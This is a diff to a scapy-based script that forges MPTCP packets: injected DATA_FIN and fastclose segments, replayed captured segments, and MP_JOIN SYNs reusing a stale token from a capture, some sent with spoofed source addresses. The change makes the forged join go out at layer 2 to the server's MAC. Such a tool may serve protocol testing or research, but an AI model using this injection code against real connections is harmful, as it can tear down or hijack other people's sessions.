@@ -16,8 +16,8 @@ plain MPTCP, DSNs and segments to replay.
         data_fin | fastclose
   mptcp_forge.py replay PCAP IFACE DIR PORT WHAT        a captured segment
         again, at the current sequence number; WHAT: add_addr | ctrl
-  mptcp_forge.py join PCAP SRC DST DPORT                MP_JOIN SYN with the
-        token of an earlier connection's join (found in PCAP)
+  mptcp_forge.py join PCAP SRC DST DPORT IFACE          MP_JOIN SYN with the
+        token of an earlier connection's join (found in PCAP), sent on IFACE
   mptcp_forge.py token PCAP                             print that token
 
 DIR is s2c (towards the client, server's address as source) or c2s.  For
@@ -33,8 +33,7 @@ import struct
 import sys
 import time
 
-from scapy.all import Ether, IP, TCP, Raw, AsyncSniffer, L3RawSocket, conf, \
-    rdpcap, send, sendp
+from scapy.all import Ether, IP, TCP, Raw, AsyncSniffer, conf, rdpcap, sendp
 
 conf.verb = 0
 MPTCP = 30
@@ -269,17 +268,30 @@ def join_token(pcap):
     sys.exit("no MP_JOIN SYN in " + pcap)
 
 
-def cmd_join(pcap, src, dst, dport):
+def neigh_mac(iface, dst):
+    """the link-layer address of DST on IFACE from the kernel's table"""
+    import json
+    import subprocess
+    out = subprocess.run(['ip', '-j', 'neigh', 'show', 'to', dst, 'dev', iface],
+                         capture_output=True, text=True, check=True).stdout
+    for n in json.loads(out or '[]'):
+        if n.get('lladdr'):
+            return n['lladdr']
+    sys.exit("no neighbour entry for %s on %s" % (dst, iface))
+
+
+def cmd_join(pcap, src, dst, dport, iface):
     tok = join_token(pcap)
     o = bytes([0x10, 7]) + struct.pack('!II', tok, struct.unpack('!I', os.urandom(4))[0])
     pkt = IP(src=src, dst=dst) / TCP(sport=40000 + os.getpid() % 20000,
                                      dport=int(dport), flags='S',
                                      seq=struct.unpack('!I', os.urandom(4))[0],
                                      options=[('MSS', 1460), (MPTCP, o)])
-    # the kernel routes it and resolves the next hop (scapy's own layer 3
-    # socket may fall back to a broadcast MAC, which TCP drops)
-    conf.L3socket = L3RawSocket
-    send(pkt)
+    # to the server's MAC from the kernel's neighbour table, as the router
+    # would forward it (a broadcast MAC would make TCP drop it)
+    with open('/sys/class/net/%s/address' % iface) as f:
+        me = f.read().strip()
+    sendp(Ether(src=me, dst=neigh_mac(iface, dst)) / pkt, iface=iface)
     print("forged: MP_JOIN SYN %s -> %s:%s with stale token %08x" %
           (src, dst, dport, tok))
 
